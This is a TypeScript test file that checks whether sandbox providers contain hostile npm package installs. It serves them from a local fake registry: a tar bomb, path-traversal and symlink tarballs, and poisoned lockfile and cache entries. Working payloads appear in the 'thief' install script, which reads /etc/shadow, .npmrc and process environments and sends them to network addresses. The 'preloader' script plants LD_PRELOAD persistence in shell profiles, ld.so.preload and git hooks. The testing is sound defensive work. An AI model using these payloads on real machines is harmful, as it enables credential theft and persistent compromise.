import { createHash } from "node:crypto";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { SandboxProvider } from "../../../sandbox/contract.ts";
import { listProviders } from "../../../sandbox/index.ts";
import { openWorkFolder, removeTree } from "../../../sandbox/work-folder.ts";
import { imageForTests, providersForTests } from "../engine.ts";
import { limits, MEBIBYTE, nodeMount, npmFolder, scratch, treeFor } from "../stand.ts";
import { type Canaries, MARK, setCanaries } from "./canaries.ts";
import { noLibrary, sharedLibrary } from "./shared-library.ts";

interface Member {
  readonly name: string;
  readonly type?: "0" | "1" | "2" | "3" | "6";
  readonly link?: string;
  readonly bytes?: Buffer;
  readonly mode?: number;
}

/** A tar as no tool would make it: any name, any kind, any target. */
function tarOf(members: readonly Member[]): Buffer {
  const blocks = members.flatMap(({ name, type = "0", link = "", bytes = Buffer.alloc(0), mode = 0o755 }) => {
    const header = Buffer.alloc(512);
    header.write(name, 0, 100, "latin1");
    header.write(`${mode.toString(8).padStart(7, "0")}\0`, 100);
    for (const at of [108, 116]) header.write("0000000\0", at);
    header.write(`${bytes.length.toString(8).padStart(11, "0")}\0`, 124);
    header.write("00000000000\0        ", 136);
    header.write(type, 156);
    header.write(link, 157, 100, "latin1");
    header.write("ustar\u000000", 257, "latin1");
    header.write(
      `${header
        .reduce((sum, byte) => sum + byte, 0)
        .toString(8)
        .padStart(6, "0")}\0 `,
      148,
    );
    return [header, bytes, Buffer.alloc((512 - (bytes.length % 512)) % 512)];
  });
  return Buffer.concat([...blocks, Buffer.alloc(1024)]);
}

const manifestOf = (name: string, scripts: Record<string, string> = {}): Member => ({
  name: "package/package.json",
  bytes: Buffer.from(JSON.stringify({ name, version: "1.0.0", scripts })),
});

/** Says what it got to `got.txt` of its own folder, and tries to send it. */
const thief = (canaries: Canaries): string => `const fs = require("fs"); const got = [];
  for (const f of [${JSON.stringify(canaries.file)}, "/proc/1/environ", "/proc/2/environ", process.env.HOME + "/.npmrc", "/root/.npmrc", "/etc/shadow"]) try { got.push(fs.readFileSync(f, "latin1")) } catch {}
  got.push(JSON.stringify(process.env)); try { fs.writeFileSync(${JSON.stringify(canaries.file)}, "changed") } catch {}
  fs.writeFileSync("got.txt", got.join("\\n")); console.log(got.join("\\n"));
  for (const host of ${JSON.stringify(canaries.addresses)}) { const s = require("net").connect(${canaries.port}, host); s.on("error", () => {}); s.on("connect", () => s.end(got.join())); }
  require("child_process").spawn("sh", ["-c", "while :; do sleep 1; done"], { detached: true, stdio: "ignore" }).unref();`;

/** Lays a library down and asks for it in every place that a later program may read; then starts some that load it. */
const preloader = `const fs = require("fs"); const { spawn, spawnSync } = require("child_process"); const top = "/workspace"; const home = process.env.HOME;
  const lib = top + "/node_modules/preloader/evil.so"; const line = "export LD_PRELOAD=" + lib + "\\n"; const npmrc = "node-options=--require " + top + "/hook.cjs\\n";
  for (const f of ["/etc/ld.so.preload", "/kihon/node/bin/node", "/kihon/npm/bin/npm-cli.js"]) try { fs.appendFileSync(f, lib); console.log("GOT " + f) } catch {}
  fs.mkdirSync(top + "/.git"); fs.writeFileSync(top + "/hook.cjs", "process.env.LD_PRELOAD = " + JSON.stringify(lib) + "; require('child_process').spawnSync('/bin/false')");
  for (const [f, text] of Object.entries({ "/.bashrc": line, "/.profile": line, "/.env": line, "/.npmrc": npmrc, "/.git/config": "[core]\\n\\tfsmonitor = LD_PRELOAD=" + lib + " true\\n" }))
    for (const folder of [top, home]) try { fs.writeFileSync(folder + f, text) } catch {}
  const env = { ...process.env, LD_PRELOAD: lib }; for (const program of ["/bin/true", process.execPath]) spawnSync(program, ["-e", "0"], { env });
  spawn("sleep", ["600"], { env, detached: true, stdio: "ignore" }).unref();
  for (let wait = 0; wait < 100 && !fs.readFileSync(top + "/loaded", "utf8").includes("/sleep"); wait++) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 20);`;

let canaries: Canaries;
let registry: Server;
let url = "";
const place = scratch();
const tmp = join(place.path, "tmp");
const npm = npmFolder();
const image = imageForTests();
const { here, left } = providersForTests(image);
const isolating = here.filter(({ provider }) => provider.isolates);
const tarballs = new Map<string, Buffer>();

beforeAll(async () => {
  mkdirSync(tmp);
  canaries = await setCanaries(place.path, tmp);
  const script = Buffer.from(thief(canaries));
  tarballs.set("bomb", tarOf([manifestOf("bomb"), { name: "package/zeros", bytes: Buffer.alloc(192 * MEBIBYTE) }]));
  tarballs.set(
    "links",
    tarOf([
      manifestOf("links"),
      { name: "package/link", type: "2", link: canaries.file },
      { name: "package/hard", type: "1", link: canaries.file },
      { name: "package/folder", type: "2", link: join(place.path, "open-to-all") },
      { name: "package/folder/made", bytes: Buffer.from("x") },
      { name: "package/../../../../../../../../../../..//tmp/climbed", bytes: Buffer.from("x") },
      { name: join(place.path, "open-to-all/absolute"), bytes: Buffer.from("x") },
      { name: "package/device", type: "3" },
      { name: "package/pipe", type: "6" },
      { name: "package/suid", bytes: Buffer.from("#!/bin/sh\n"), mode: 0o6755 },
    ]),
  );
  tarballs.set(
    "thief",
    tarOf([manifestOf("thief", { install: "node steal.js", postinstall: "node steal.js" }), { name: "package/steal.js", bytes: script }]),
  );
  const marks = ["/workspace/loaded", join(place.path, "open-to-all/loaded")];
  tarballs.set(
    "preloader",
    tarOf([
      manifestOf("preloader", { install: "node preload.js" }),
      { name: "package/preload.js", bytes: Buffer.from(preloader) },
      { name: "package/evil.so", bytes: sharedLibrary({ marks, steals: canaries.file }) },
    ]),
  );
  for (const [name, tar] of tarballs) tarballs.set(name, gzipSync(tar));
  registry = createServer((request, response) => {
    const name = /^\/([a-z]+)/.exec(request.url ?? "")?.[1] ?? "";
    const bytes = tarballs.get(name);
    if (bytes === undefined) return response.writeHead(404).end("{}");
    if (request.url?.endsWith(".tgz")) return response.end(bytes);
    const integrity = `sha512-${createHash("sha512").update(bytes).digest("base64")}`;
    const dist = { tarball: `http://registry.invalid/${name}/-/${name}-1.0.0.tgz`, integrity };
    const version = {
      name,
      version: "1.0.0",
      dist,
      ...(name === "thief" ? { hasInstallScript: true, scripts: { install: "node steal.js" } } : {}),
      ...(name === "preloader" ? { hasInstallScript: true, scripts: { install: "node preload.js" } } : {}),
    };
    return response.end(JSON.stringify({ name, "dist-tags": { latest: "1.0.0" }, versions: { "1.0.0": version } }));
  });
  await new Promise<void>((done) => registry.listen(0, "127.0.0.1", done));
  url = `http://127.0.0.1:${(registry.address() as AddressInfo).port}/`;
}, 120_000);

afterAll(async () => {
  canaries.close();
  registry.close();
  await removeTree(place.path);
});

async function untouched(said: string): Promise<void> {
  for (let wait = 0; wait < 50 && canaries.breaches(said).length > 0; wait++) await new Promise((done) => setTimeout(done, 100));
  expect(canaries.breaches(said)).toEqual([]);
}

describe.skip.each([...left])("$name: $why", () => {
  test.todo("contains every hostile install");
});

describe.skipIf(npm === null).each(isolating)("an install is contained by $name:", ({ name }) => {
  /** With a cache of tarballs of its own. */
  const providerWith = (cache: string): SandboxProvider =>
    listProviders({ ...image, tmp, registry: url, registryCache: join(place.path, cache) }).find(
      (listed) => listed.name === name,
    ) as SandboxProvider;
  let provider: SandboxProvider;
  beforeAll(() => {
    provider = providerWith(`tarballs-${name}`);
  });

  /** An install by npm in a writable tree, with its scripts or without. */
  async function install(wanted: string, words: readonly string[], lock: string | null = null) {
    const manifest = JSON.stringify({ name: "x", version: "1.0.0", dependencies: { [wanted]: "1.0.0" } });
    const folder = await treeFor(provider, place.path, {
      "package.json": manifest,
      ...(lock === null ? {} : { "package-lock.json": lock }),
    });
    const result = await provider.run({
      tree: [],
      writableTree: folder,
      layer: {},
      mounts: [nodeMount, { host: npm as string, guest: "/kihon/npm" }],
      cwd: ".",
      commands: [["node", "/kihon/npm/bin/npm-cli.js", ...words]],
      env: { [MARK]: canaries.mark, CI: "1" },
      network: "registry",
      limits: { ...limits, wallMs: 60_000, memoryBytes: 2 ** 30, diskBytes: 128 * MEBIBYTE },
    });
    const inside = join(folder, "node_modules", wanted);
    return { folder, inside, result, said: `${result.stdout}\n${result.stderr}` };
  }

  test("a tarball that unpacks to more than there may be", async () => {
    const { result, said } = await install("bomb", ["install", "--ignore-scripts"]);
    expect((tarballs.get("bomb") as Buffer).length).toBeLessThan(MEBIBYTE);
    expect(result.ended.kind === "disk-full" || (result.ended.kind === "finished" && result.ended.exitCode !== 0), said).toBe(true);
    await untouched(said);
  });
  test("a tarball with links, steps upwards, devices and bits that change the user", async () => {
    const { inside, said } = await install("links", ["install", "--ignore-scripts"]);
    expect(existsSync("/tmp/climbed")).toBe(false);
    for (const kind of ["link", "hard", "device", "pipe"])
      expect(existsSync(join(inside, kind)) && readFileSync(join(inside, kind), "latin1").includes(canaries.secret)).toBe(false);
    await untouched(said);
  });
  test("scripts of a package, where they may not run and where they may", async () => {
    const closed = await install("thief", ["install", "--ignore-scripts"]);
    expect(existsSync(join(closed.inside, "got.txt"))).toBe(false);
    const open = await install("thief", ["install", "--foreground-scripts"]);
    const got = readFileSync(join(open.inside, "got.txt"), "latin1");
    expect(got).toContain("npm_config_registry");
    await untouched(`${closed.said}${open.said}${got}`);
  });
  test.skipIf(noLibrary !== null)("a library that a package's script asks every program to load", async () => {
    const closed = await install("preloader", ["install", "--ignore-scripts"]);
    expect(existsSync(join(closed.folder, "loaded"))).toBe(false);
    const { folder, inside, said } = await install("preloader", ["install", "--foreground-scripts"]);
    const loaded = (): string => readFileSync(join(folder, "loaded"), "latin1");
    for (const program of ["true", "node", "sleep"]) expect(loaded()).toContain(`/${program}\n`);
    expect(said).not.toContain("GOT");
    await untouched(said);
    // What was installed is what the next jobs stand on, and what programs of the machine's own go over.
    const before = loaded();
    await provider.adopt(folder, true);
    const look = `for (const words of [["true"], ["sh", "-lc", "/bin/true"], ["bash", "-ic", "/bin/true"]]) cp.spawnSync(words[0], words.slice(1));
      for (const p of fs.readdirSync("/proc").filter(Number)) try { if (fs.readFileSync("/proc/" + p + "/maps", "latin1").includes("evil")) console.log("GOT into " + p) } catch {}
      if (JSON.stringify(process.env).includes("evil")) console.log("GOT the environment"); console.log(fs.existsSync("node_modules/preloader/evil.so"));`;
    const job = { layer: {}, mounts: [nodeMount], cwd: ".", env: { [MARK]: canaries.mark }, limits } as const;
    const commands = [["/kihon/node/bin/node", "-e", `const fs = require("fs"); const cp = require("child_process"); ${look}`]];
    const { stdout } = await provider.run({ ...job, tree: [folder], commands, network: "none" });
    const again = await provider.run({ ...job, tree: [], writableTree: folder, commands, network: "registry" });
    expect([stdout, again.stdout, loaded()]).toEqual(["true\n", "true\n", before]);
    expect(await removeTree(inside)).toBe(true);
    await untouched(`${stdout}${again.stdout}`);
  });
  test("another tarball under a name that a lock file knows", async () => {
    const first = await install("links", ["install", "--ignore-scripts"]);
    const lock = readFileSync(join(first.folder, "package-lock.json"), "utf8");
    const honest = tarballs.get("links") as Buffer;
    tarballs.set("links", gzipSync(tarOf([manifestOf("links"), { name: "package/evil.js", bytes: Buffer.from("evil") }])));
    const before = provider;
    provider = providerWith(`tarballs-poisoned-${name}`);
    const second = await install("links", ["ci", "--ignore-scripts", "--fetch-retries=0"], lock);
    provider = before;
    tarballs.set("links", honest);
    expect(second.result.ended).toMatchObject({ kind: "finished", exitCode: 1 });
    expect(second.said).toContain("EINTEGRITY");
    expect(existsSync(join(second.inside, "evil.js"))).toBe(false);
  });
  test("a tarball that was altered where it is kept", async () => {
    const kept = `tarballs-altered-${name}`;
    const before = provider;
    provider = providerWith(kept);
    const first = await install("links", ["install", "--ignore-scripts"]);
    const lock = readFileSync(join(first.folder, "package-lock.json"), "utf8");
    const altered = readdirSync(join(place.path, kept), { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
    expect(altered.length).toBeGreaterThan(0);
    const evil = gzipSync(tarOf([manifestOf("links"), { name: "package/evil.js", bytes: Buffer.from("evil") }]));
    for (const entry of altered) writeFileSync(join(entry.parentPath, entry.name), evil);
    const locked = await install("links", ["ci", "--ignore-scripts", "--fetch-retries=0"], lock);
    const free = await install("links", ["install", "--ignore-scripts", "--fetch-retries=0"]);
    provider = before;
    for (const { result, said, inside } of [locked, free]) {
      expect(result.ended, said).toMatchObject({ kind: "finished", exitCode: 1 });
      expect(said).toContain("EINTEGRITY");
      expect(existsSync(join(inside, "evil.js"))).toBe(false);
    }
  });
  test("what one install writes to its home and its client's cache, no later one finds", async () => {
    const words = [
      "-c",
      'cat "$HOME"/.trace "$HOME"/.npm/.trace && echo GOT; mkdir -p "$HOME"/.npm; echo x >"$HOME"/.trace; echo x >"$HOME"/.npm/.trace',
    ];
    for (let time = 0; time < 2; time++) {
      const folder = await treeFor(provider, place.path, { "package.json": "{}" });
      const job = {
        tree: [],
        writableTree: folder,
        layer: {},
        mounts: [nodeMount],
        cwd: ".",
        commands: [["sh", ...words]],
        env: {},
        network: "registry",
        limits,
      } as const;
      expect((await provider.run(job)).stdout).not.toContain("GOT");
    }
  });
  test("folders that are deeper than any path are removed with the rest", async () => {
    const shelf = join(place.path, "shelf");
    const work = await openWorkFolder(shelf);
    await provider.adopt(work, true);
    const script = 'for (let n = 0; n < 60; n++) { fs.mkdirSync("d".repeat(200)); process.chdir("d".repeat(200)); }';
    await provider.run({
      tree: [],
      writableTree: work,
      layer: {},
      mounts: [nodeMount],
      cwd: ".",
      commands: [["/kihon/node/bin/node", "-e", script]],
      env: {},
      network: "none",
      limits,
    });
    expect(await removeTree(work)).toBe(true);
    expect(existsSync(work)).toBe(false);
  });
});
